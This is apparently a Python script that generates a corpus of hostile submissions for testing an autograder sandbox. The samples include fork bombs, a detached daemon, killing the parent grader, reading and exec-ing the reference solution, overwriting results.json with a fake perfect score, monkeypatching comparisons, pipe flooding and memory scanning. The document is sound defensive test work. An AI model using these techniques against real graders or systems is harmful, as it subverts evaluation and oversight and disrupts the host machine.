"""Regenerate the hostile corpus: submissions that attack the grader instead of (or besides)
doing the work. Each is the correct submission (build_corpus.GOOD) plus one behaviour.

    .venv/bin/python tests/corpus/build_hostile.py

Never run these files outside the sandbox under test. Every one is bounded (forks, file
walks, sleeps) so even an unsandboxed run would end on its own. Processes they leave behind
name themselves w2v-hostile (in /proc/PID/comm), so tests can prove none survived.

Files whose cheat could earn points on its own (finding the reference, fooling comparisons)
carry a WRONG sigmoid that only a successful cheat would make right: a contained attack
scores 0 on sigmoid, a working one full marks. EXPECTED in tests/test_lockdown.py says what
each should score.
"""

import textwrap

from build_corpus import GOOD, HERE, fill

MARK = """
def _mark_as_hostile():
    # name this process "w2v-hostile", so a test can find any that survives grading
    import ctypes
    ctypes.CDLL(None).prctl(15, b"w2v-hostile", 0, 0, 0)
"""



def then_good(first, function):
    """`first`, then the correct body of `function`."""
    return textwrap.dedent(first).strip("\n") + "\n" + textwrap.dedent(GOOD[function]).strip("\n")


WRONG_SIGMOID = "s = np.zeros_like(np.asarray(x, dtype=float))"

HOSTILE = {
    "wrong_then_hangs": ("naiveSoftmaxLossAndGradient has the loss's sign wrong (a plain "
                         "failure, searched last) and loops forever on the finite "
                         "differences' moved inputs, using up its budget: the search still "
                         "has the budget it had when the failure was met.", "_LAST = []\n", {
        "naiveSoftmaxLossAndGradient": """
            if _LAST and _LAST[0][1].shape == np.shape(outsideVectors) \\
                    and _LAST[0][0].shape == np.shape(centerWordVec) \\
                    and 0 < max(np.abs(_LAST[0][0] - centerWordVec).max(),
                                np.abs(_LAST[0][1] - outsideVectors).max()) < 1e-3:
                while True:
                    pass
            _LAST[:] = [(np.array(centerWordVec, dtype=float),
                         np.array(outsideVectors, dtype=float))]
            y_hat = softmax(outsideVectors @ centerWordVec)
            loss = np.log(y_hat[outsideWordIdx])
            y_hat[outsideWordIdx] -= 1
            gradCenterVec = outsideVectors.T @ y_hat
            gradOutsideVecs = np.outer(y_hat, centerWordVec)"""}),
    "infinite_loop": ("naiveSoftmaxLossAndGradient loops forever.", "", {
        "naiveSoftmaxLossAndGradient": "while True:\n    pass"}),
    "sleep_per_call": ("sigmoid sleeps 2 s on every call, then answers correctly.",
                       "import time\n", {"sigmoid": then_good("time.sleep(2)", "sigmoid")}),
    "memory_hog": ("naiveSoftmaxLossAndGradient allocates 6 GB before answering.", "", {
        "naiveSoftmaxLossAndGradient": then_good("hog = np.ones(6 * 2**30 // 8)",
                                                 "naiveSoftmaxLossAndGradient")}),
    "memory_to_the_brim": ("Fills the worker's memory at import, all but ~16 MB, so the "
                           "worker's own preparation of a large input (not the student's "
                           "code) runs out: once a grader traceback shown as the student's "
                           "output, and 'your code ended the Python process'.", """
_HOG = []
try:
    while True:
        _HOG.append(bytearray(16 << 20))
except MemoryError:
    del _HOG[-1:]
""", {}),
    "large_results": ("Every function returns a 60 MB bool array as its first output: each "
                      "answer is under the 64 MB bound, but together they once made the "
                      "grader hold 10 GB.", "_BIG = np.ones(60_000_000, dtype=bool)\n", {
        "sigmoid": "return _BIG",
        "naiveSoftmaxLossAndGradient": "return _BIG, np.zeros(3), np.zeros((2, 2))",
        "negSamplingLossAndGradient": "return _BIG, np.zeros(3), np.zeros((2, 2))",
        "skipgram": "return _BIG, np.zeros((2, 3)), np.zeros((2, 3))"}),
    "os_exit": ("sigmoid ends the process with os._exit(3).", "import os\n", {
        "sigmoid": "os._exit(3)"}),
    "sys_exit": ("skipgram calls sys.exit(0).", "import sys\n", {"skipgram": "sys.exit(0)"}),
    "kill_self": ("negSamplingLossAndGradient sends SIGKILL to its own process.",
                  "import os\nimport signal\n", {
        "negSamplingLossAndGradient": "os.kill(os.getpid(), signal.SIGKILL)"}),
    "kill_parent": ("naiveSoftmaxLossAndGradient tries to SIGKILL its parent (the grader, it "
                    "hopes), then answers correctly.", "import os\nimport signal\n", {
        "naiveSoftmaxLossAndGradient": then_good("""
            try:
                os.kill(os.getppid(), signal.SIGKILL)
            except OSError as exc:
                print("kill parent failed:", exc)""", "naiveSoftmaxLossAndGradient")}),
    "segfault": ("skipgram dereferences a null pointer through ctypes.", "import ctypes\n", {
        "skipgram": "ctypes.string_at(0)"}),
    "fork_bomb": ("sigmoid forks (at most 200) sleeping children once, then answers.",
                  "import os\nimport time\n" + MARK + """
_forked = []


def _fork_bomb():
    for _ in range(200):
        try:
            pid = os.fork()
        except OSError as exc:
            print("fork failed after", len(_forked), "children:", exc)
            return
        if pid == 0:
            _mark_as_hostile()
            time.sleep(30)
            os._exit(0)
        _forked.append(pid)
""", {"sigmoid": then_good("if not _forked:\n    _fork_bomb()", "sigmoid")}),
    "double_fork": ("At import, a detached grandchild (new session) that outlives the worker "
                    "and keeps writing.", "import os\nimport time\n" + MARK + """

def _daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            _mark_as_hostile()
            for _ in range(60):
                print("daemon still alive", flush=True)  # first at once: grading may be quick
                time.sleep(0.5)
        os._exit(0)


try:
    _daemon()
except OSError as exc:   # where the sandbox refuses new processes
    print("fork refused:", exc)
""", {}),
    "network": ("At import, connects to a loopback port (the test listens there) and to "
                "192.0.2.1 (TEST-NET-1, never routed), reporting what happened.",
                "import socket\n" + """

def _try_connect(host, port):
    try:
        with socket.create_connection((host, port), timeout=1) as conn:
            conn.sendall(b"leaked")
        print(f"network: connected to {host}")
    except OSError as exc:
        print(f"network: {host} unreachable ({exc})")


_try_connect("127.0.0.1", 47654)
_try_connect("192.0.2.1", 80)
""", {}),
    "read_solutions": ("Looks for the reference on disk (kit paths, then a bounded walk of "
                       "the whole tree); its own sigmoid is wrong, the reference's would "
                       "score.", "import os\nimport time\n" + """

def _find_reference():
    here = os.path.dirname(os.path.abspath(__file__))
    guesses = [os.path.join(here, *[".."] * up, "solutions", "word2vec.py") for up in range(5)]
    guesses += ["/autograder/source/solutions/word2vec.py"]
    started, seen = time.monotonic(), 0
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if root != "/" or d not in ("proc", "sys", "dev")]
        seen += len(files)
        if seen > 200000 or time.monotonic() - started > 3:
            break
        guesses += [os.path.join(root, f) for f in files if f in ("word2vec.py", "rubric.toml")]
    for path in guesses:
        try:
            with open(path) as handle:
                text = handle.read()
        except OSError:
            continue
        if "BEGIN SOLUTION" in text or "matches_reference" in text:
            print("found the reference:", path)
            return text
    print("no reference found")
    return None


_reference = _find_reference()
if _reference and "BEGIN SOLUTION" in _reference:
    _namespace = {}
    exec(_reference, _namespace)
""", {"sigmoid": WRONG_SIGMOID + "\nif _reference and 'BEGIN SOLUTION' in _reference:\n"
                                 "    s = _namespace['sigmoid'](x)"}),
    "import_solutions": ("Imports the reference as a module, and looks for it in the worker's "
                         "memory; its own sigmoid is wrong.", "import gc\nimport sys\n" + """
_reference = None
for _path in ("..", "../..", "../../..", "/autograder/source"):
    sys.path.append(_path)
try:
    import solutions.word2vec as _reference
    print("imported the reference")
except ImportError as exc:
    print("import solutions failed:", exc)
for _obj in gc.get_objects():
    if getattr(_obj, "__name__", "") in ("_word2vec_reference", "solutions.word2vec"):
        _reference = _obj
        print("found the reference in memory")
""", {"sigmoid": WRONG_SIGMOID + "\nif _reference is not None:\n"
                                 "    s = _reference.sigmoid(x)"}),
    "results_overwrite": ("At import, writes a perfect results.json wherever it can find one "
                          "(arguments of every visible process, Gradescope's path), now and "
                          "from a detached child after grading.", "import os\nimport time\n"
                          + MARK + """
FAKE = '{"score": 1000, "tests": []}'


def _targets():
    paths = ["/autograder/results/results.json"]
    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                args = handle.read().decode(errors="replace").split("\\0")
        except OSError:
            continue
        paths += [a for a in args if a.endswith(".json")]
    return paths


def _overwrite():
    for path in _targets():
        try:
            with open(path, "w") as handle:
                handle.write(FAKE)
            print("overwrote", path)
        except OSError as exc:
            print("could not write", path, exc)


_overwrite()
try:
    if os.fork() == 0:
        os.setsid()
        _mark_as_hostile()
        for _ in range(20):
            time.sleep(0.5)
            _overwrite()
        os._exit(0)
except OSError as exc:   # where the sandbox refuses new processes
    print("fork refused:", exc)
""", {}),
    "monkeypatch": ("Patches numpy's and Python's comparisons to always agree; its sigmoid "
                    "is wrong.", "import builtins\nimport math\n" + """
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True
builtins.abs = lambda x: 0
builtins.isinstance = lambda obj, cls: True
""", {"sigmoid": WRONG_SIGMOID}),
    "output_flood": ("Prints megabytes at import and on every call, through print and "
                     "straight to file descriptors 1 and 2.", "import os\nimport sys\n" + """
print("flood " * 2_000_000)
os.write(2, b"raw flood " * 500_000)


def _flood():
    sys.stdout.write("x" * 1_000_000)
    try:
        os.write(1, b"y" * 1_000_000)
    except OSError:
        pass
""", {name: then_good("_flood()", name) for name in GOOD}),
}

STEAL = {
    "sigmoid": "return _steal('sigmoid')(x)",
    "naiveSoftmaxLossAndGradient": "return _steal('naiveSoftmaxLossAndGradient')("
                                   "centerWordVec, outsideWordIdx, outsideVectors, dataset)",
    "negSamplingLossAndGradient": "return _steal('negSamplingLossAndGradient')("
                                  "centerWordVec, outsideWordIdx, outsideVectors, dataset, K)",
    "skipgram": "return _steal('skipgram')(currentCenterWord, windowSize, outsideWords, "
                "word2Ind, centerWordVectors, outsideVectors, dataset, word2vecLossAndGradient)",
}

# What leave_traces plants (a later worker must never see it); look_for_traces spells it
# only in two hex-encoded halves, so it is whole in memory only where something put it.
TRACE = "W2V-TRACE-7f3a9c41d2e8b6"

# Round two (issue 10): attacks on the boundary itself, not on the functions.
HOSTILE_2 = {
    "loose_classmates": ("Implements nothing: lists its own folder and runs a classmate's file "
                         "to borrow their functions, printing the names it saw.",
                         "import os\n" + """
_borrowed = {}


def _borrow():
    here = os.path.dirname(os.path.abspath(__file__))
    names = sorted(os.listdir(here))
    print("my folder holds:", names)
    for name in names[:200]:
        path = os.path.join(here, name)
        if not name.endswith(".py") or path == os.path.abspath(__file__):
            continue
        namespace = {"__name__": "classmate"}
        try:
            with open(path) as handle:
                exec(handle.read(), namespace)
        except BaseException:
            continue
        if callable(namespace.get("sigmoid")) and "_borrowed" not in namespace:
            print("borrowed from", name)
            return namespace
    return {}


def _steal(name):
    if not _borrowed:
        _borrowed.update(_borrow() or {"none": None})
    if callable(_borrowed.get(name)):
        return _borrowed[name]
    raise NotImplementedError(name)
""", STEAL),
    "huge_answer": ("Writes its own answers on the response pipe: sigmoid claims 200 MB of "
                    "`[],`, naiveSoftmax a 3 MB nest of `[`, negSampling a million empty "
                    "lists; skipgram is honest.", "import os\nimport struct\nimport sys\n" + """

def _pipe():
    return int(sys.argv[sys.argv.index("--responses") + 1])


def _send(header, total=None):
    fd = _pipe()
    body = struct.pack("<I", len(header)) + header
    os.write(fd, struct.pack("<Q", total or len(body)))
    view = memoryview(body)
    while view:
        view = view[os.write(fd, view[:1 << 16]):]
    os._exit(0)


def _flood():
    fd, chunk = _pipe(), b"[]," * 100_000
    os.write(fd, struct.pack("<Q", 200 * 2**20) + struct.pack("<I", 200 * 2**20 - 4) + b"[")
    for _ in range(700):  # at most ~200 MB, and only while someone reads
        os.write(fd, chunk)
    os._exit(0)
""", {"sigmoid": "_flood()",
      "naiveSoftmaxLossAndGradient": "_send(b'[' * (3 * 2**20))",
      "negSamplingLossAndGradient": "_send(b'[' + b'[],' * 1_000_000 + b'[]]')"}),
    "stops_reading": ("Once loaded, the worker never reads another request: its request pipe "
                      "is shrunk to one page and the reading function sleeps.",
                      "import fcntl\nimport sys\nimport time\n" + """

def _stop_reading():
    fd = int(sys.argv[sys.argv.index("--requests") + 1])
    try:
        fcntl.fcntl(fd, 1031, 4096)  # F_SETPIPE_SZ
    except OSError as exc:
        print("could not shrink the pipe:", exc)
    codec = sys.modules.get("codec")
    if codec is not None:
        codec.read_message = lambda fd: time.sleep(3600)


_stop_reading()
""", {}),
    "fallocate_stdout": ("At import, reserves 2 GB behind its standard output with "
                         "fallocate(KEEP_SIZE), then answers correctly.",
                         "import ctypes\nimport os\n" + """

def _reserve():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]
    result = libc.fallocate(1, 1, 0, 2 * 2**30)  # FALLOC_FL_KEEP_SIZE
    if result == 0:
        print("fallocate reserved 2 GB")
    else:
        print("fallocate failed:", os.strerror(ctypes.get_errno()))


_reserve()
""", {}),
    "nasty_strings": ("Prints terminal escape codes (a fake total) and raises errors whose "
                      "messages hold a lone surrogate, escape codes and a 1 MB line.",
                      "" + """
print("\\x1b[2J\\x1b[H\\x1b[32mTotal 100 / 100\\x1b[0m\\x07")
""", {"sigmoid": "raise ValueError('bad \\ud800 \\x1b[2J\\x1b[HTotal 100 / 100 ' + 'x' * 2**20)",
      "negSamplingLossAndGradient": "raise KeyError('\\udcff' * 1000)"}),
    "slow_load_crash": ("Takes 4 s to load and ends the process on every call, so every "
                        "check costs a reload.", "import os\nimport time\n\ntime.sleep(4)\n",
                        {name: "os._exit(1)" for name in GOOD}),
    "leave_traces": ("At import, leaves a secret wherever a later submission's worker might "
                     "look (numpy, builtins, the environment, sys.modules, the worker's "
                     "modules, sys.path, /tmp, /dev/shm, a thousand copies in memory), then "
                     "answers correctly. look_for_traces, graded next by the same process, "
                     "must find none of it.", "import builtins\nimport os\nimport sys\n" + f"""
_SECRET = "{TRACE}"


def _leave_traces():
    import types
    import numpy
    numpy._w2v_trace = _SECRET
    builtins._w2v_trace = _SECRET
    os.environ["W2V_TRACE"] = _SECRET
    sys.modules["w2v_trace"] = types.ModuleType(_SECRET)
    sys.path.append("/" + _SECRET)
    codec = sys.modules.get("codec")
    if codec is not None:
        codec._w2v_trace = _SECRET
    for folder in ("/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, "w2v_trace"), "w") as handle:
                handle.write(_SECRET)
        except OSError as exc:
            print("could not write in", folder, type(exc).__name__)
    return [(_SECRET + str(i)).encode() for i in range(1000)]


_kept = _leave_traces()
""", {}),
    "look_for_traces": ("At import, looks for what leave_traces left (every place it wrote, "
                        "and the secret anywhere in its own memory) and prints what it "
                        "finds; then answers correctly.",
                        "import builtins\nimport ctypes\nimport os\nimport sys\n" + f"""
# The secret in two halves, never joined here: a scan of this process's memory finds it
# only where something else put it whole.
_HALVES = (bytes.fromhex("{TRACE[:8].encode().hex()}"), bytes.fromhex("{TRACE[8:].encode().hex()}"))


def _occurrences(chunk, first, second):
    count, at = 0, chunk.find(first)
    while at >= 0:
        if chunk[at + len(first):at + len(first) + len(second)] == second:
            count += 1
        at = chunk.find(first, at + 1)
    return count


class _Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def _scan_memory(halves_list):
    # process_vm_readv on itself (an unprivileged worker may not open /proc/self/mem):
    # an unreadable page is an error, never a crash.
    libc = ctypes.CDLL(None, use_errno=True)
    counts, buffer = [0] * len(halves_list), ctypes.create_string_buffer(2**22)
    with open("/proc/self/maps") as handle:
        maps = handle.read().splitlines()
    for line in maps:
        parts = line.split()
        low, high = (int(x, 16) for x in parts[0].split("-"))
        if "r" not in parts[1] or high - low > 2**28 or parts[-1].startswith("[v"):
            continue
        for start in range(low, high, 2**22):
            size = min(high, start + 2**22) - start
            local, remote = _Iovec(ctypes.addressof(buffer), size), _Iovec(start, size)
            got = libc.process_vm_readv(os.getpid(), ctypes.byref(local), 1,
                                        ctypes.byref(remote), 1, 0)
            if got <= 0:
                break
            chunk = buffer.raw[:got]
            for i, (first, second) in enumerate(halves_list):
                counts[i] += _occurrences(chunk, first, second)
    return counts


def _look_for_traces():
    import numpy
    found = []
    places = {{"numpy": getattr(numpy, "_w2v_trace", None),
              "builtins": getattr(builtins, "_w2v_trace", None),
              "environment": os.environ.get("W2V_TRACE"),
              "sys.modules": sys.modules.get("w2v_trace"),
              "worker module": getattr(sys.modules.get("codec"), "_w2v_trace", None),
              "sys.path": [p for p in sys.path if "W2V" in p] or None}}
    found += [name for name, value in places.items() if value is not None]
    for folder in ("/tmp", "/dev/shm"):
        if os.path.exists(os.path.join(folder, "w2v_trace")):
            found.append(folder)
    planted = b"".join((b"w2v-own-", b"planted-copy"))   # proves the scan sees the heap
    secret, own = _scan_memory([_HALVES, (b"w2v-own-", b"planted-copy")])
    if secret:
        found.append(f"memory ({{secret}} copies)")
    print("traces found:", ", ".join(found) or "none", "| own copy seen:", own > 0, len(planted))


_look_for_traces()
""", {}),
}


def main():
    folder = HERE / "hostile"
    folder.mkdir(exist_ok=True)
    for name, (what, prelude, payloads) in {**HOSTILE, **HOSTILE_2}.items():
        text = fill(payloads)
        anchor = "from utils.utils import normalizeRows, softmax\n"
        text = text.replace(anchor, anchor + "\n# HOSTILE: " + what + "\n" + prelude, 1)
        (folder / f"{name}.py").write_text(text)


if __name__ == "__main__":
    main()
